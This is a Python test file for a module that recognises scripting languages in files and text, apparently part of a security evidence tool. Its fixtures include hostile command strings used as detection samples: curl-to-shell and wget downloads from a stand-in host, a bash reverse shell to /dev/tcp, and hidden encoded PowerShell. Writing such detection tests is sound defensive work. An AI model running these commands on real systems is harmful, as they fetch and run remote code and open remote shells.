"""Which language a member or a carried text is in."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from watchhouse.evidence.facts.scripts.recognise import language_of, looks_like_script


@pytest.mark.parametrize(
    ("path", "content", "expected"),
    [
        ("bin/run", b"#!/bin/sh\nls", "shell"),
        ("bin/run", b"#!/usr/bin/env -S node --flag\n", "javascript"),
        ("bin/run", b"#!/usr/bin/env python3\nimport os", None),
        ("x.PS1", b"", "powershell"),
        ("x.cmd", b"", "batch"),
        ("x.vbs", b"", "vbscript"),
        ("x.mjs", b"", "javascript"),
        ("x.py", b"#!/usr/bin/python", None),
        ("x.txt", b"curl http://h.example | sh", None),
        (".profile", b"curl http://h.example | sh", "shell"),
        ("x.ps1", "\ufeffls".encode("utf-16-le"), "powershell"),
        ("data", bytes(range(256)), None),
    ],
)
def test_members_are_recognised(path: str, content: bytes, expected: str | None) -> None:
    """The shebang counts before the extension, the extension before the content."""
    assert language_of(path, content) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("powershell -w hidden -c calc", "powershell"),
        (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -e AAAA", "powershell"),
        ("cmd /c del x", "batch"),
        ("@echo off\r\ndel x", "batch"),
        ("wget -q http://h.example/x -O /tmp/x", "shell"),
        ("bash -c 'id'", "shell"),
        ("bash -i >& /dev/tcp/203.0.113.1/1 0>&1", "shell"),
        ("$client = New-Object Net.Sockets.TCPClient", "powershell"),
        ("const cp = require('child_process')", "javascript"),
        ('Set x = CreateObject("WScript.Shell")', "vbscript"),
        ("A sentence about power and shells.", None),
        ("Install it:\n\n    curl http://h.example | sh\n", None),
        ("SELECT * FROM t WHERE a = 'b'", None),
        ("", None),
    ],
)
def test_carried_texts_are_recognised(text: str, expected: str | None) -> None:
    """Texts that would run are told from those that would not."""
    assert looks_like_script(text) == expected


@given(st.text(), st.binary())
def test_anything_is_answered(text: str, content: bytes) -> None:
    """No text and no bytes make recognition fail."""
    looks_like_script(text)
    language_of("x", content)
